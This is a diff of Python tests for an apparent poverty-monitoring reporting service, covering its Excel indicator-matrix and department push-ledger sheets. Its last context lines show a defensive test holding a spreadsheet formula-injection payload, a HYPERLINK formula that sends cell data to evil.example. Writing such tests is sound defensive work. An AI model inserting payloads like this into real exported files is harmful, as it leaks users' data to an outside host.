@@ -164,6 +164,64 @@ def test_monthly_and_quarterly_reports_as_json_and_workbooks(api: Api) -> None:
     problem(api.get("/api/reports/monthly", "county", month="2025-Q1"), 422, "PERIOD_INVALID")
 
 
+def test_the_workbooks_carry_the_indicator_matrix_coloured_by_band(api: Api) -> None:
+    """The monthly and quarterly workbooks' 指标矩阵（乡镇）: a township per row (the county's
+    total first), an indicator per column, each rate a percentage coloured by its band with its
+    numerator and denominator in the cell's comment; the quarter's ranked."""
+    from application.matrix import BANDS
+
+    county(api)
+    monthly = api.get("/api/reports/monthly", "county", month="2025-03", format="xlsx")
+    sheet = openpyxl.load_workbook(io.BytesIO(monthly.content))["指标矩阵（乡镇）"]
+    header = [c.value for c in sheet[1]]
+    assert header[:3] == ["名次", "乡镇", "识别认定时限达标率"] and "返贫致贫人数" in header
+    rows = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
+    assert list(rows) == ["全县（合计）", OTHER_TOWNSHIP, "银坊镇"]  # 1/1 ranks above 1/2
+    timely = header.index("识别认定时限达标率")
+    ours, theirs = rows["银坊镇"][timely], rows[OTHER_TOWNSHIP][timely]
+    assert (ours.value, ours.number_format) == (0.5, "0.0%")
+    assert ours.comment.text == "15日内纳入的案件 1 / 纳入的案件 2"
+    poor, good = BANDS[-1].fill, BANDS[0].fill
+    assert ours.fill.start_color.rgb.endswith(poor) and theirs.fill.start_color.rgb.endswith(good)
+    assert [rows["银坊镇"][0].value, rows[OTHER_TOWNSHIP][0].value] == [2, 1]
+    readings = openpyxl.load_workbook(io.BytesIO(monthly.content))["口径说明"]
+    assert any(row[0].value == "颜色分档" for row in readings.iter_rows())
+
+    quarterly = api.get("/api/reports/quarterly", "assessment", quarter="2025-Q1", format="xlsx")
+    book = openpyxl.load_workbook(io.BytesIO(quarterly.content))
+    assert {"指标矩阵（乡镇）", "指标矩阵（部门）"} <= set(book.sheetnames)
+    departments = book["指标矩阵（部门）"]
+    assert [c.value for c in departments[1]][1:5] == [
+        "部门", "识别认定时限达标率", "预警核实率", "部门推送及时率"]
+
+
+def test_the_push_ledger_sheet_says_what_was_due_and_what_arrived_province_apart(api: Api) -> None:
+    """部门推送: per department and period what was due and how it was met, then each batch that
+    arrived for it, the province's apart from the county's, its rows by outcome and the time."""
+    from tests.http.kit import head_of
+
+    register(api, 1)
+    api.clock.now = datetime(2025, 12, 5, 2, tzinfo=UTC)
+    for batch, tier in (("SJ-12上旬", "省级推送"), ("YB-12上旬", "县级筛查")):
+        answer = api.post("/api/pushes", {
+            "batch_id": batch, "tier": tier, "period": "2025-12上旬",
+            "rows": [{"person_id_number": head_of(1), "risk_types": ["因病"], "occurred_on": "2025-12-03"}]},
+            "department")
+        assert answer.status_code == 200, answer.text
+    api.catch_up()
+    workbook = api.get("/api/reports/monthly", "county", month="2025-12", format="xlsx")
+    sheet = openpyxl.load_workbook(io.BytesIO(workbook.content))["部门推送"]
+    header = [c.value for c in sheet[1]]
+    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)]
+    line = [r for r in rows if (r["部门"], r["期次"]) == ("医保局", "2025-12上旬")]
+    assert [(r["情况"], r["层级"], r["批次号"]) for r in line] == [
+        ("按时", "县级筛查", "YB-12上旬"), ("按时", "省级推送", "SJ-12上旬")]
+    assert line[0]["接收时间（北京时间）"] == "2025-12-05 10:00"
+    assert [(r["条数"], r["新案件"], r["并入案件"], r["重复"], r["拒收"]) for r in line] == [
+        (1, 0, 0, 1, 0), (1, 1, 0, 0, 0)]  # the county's row repeats what the province pushed
+    assert "推送批次" not in openpyxl.load_workbook(io.BytesIO(workbook.content)).sheetnames
+
+
 def test_text_in_a_workbook_is_never_a_formula_and_odd_times_are_refused(api: Api) -> None:
     topic = '=HYPERLINK("http://evil.example/?"&A1,"点击查看附件")'
     api.ok("/api/meetings/consultations", {"meeting_id": "HS-2025-02", "occurred_on": "2025-02-20",
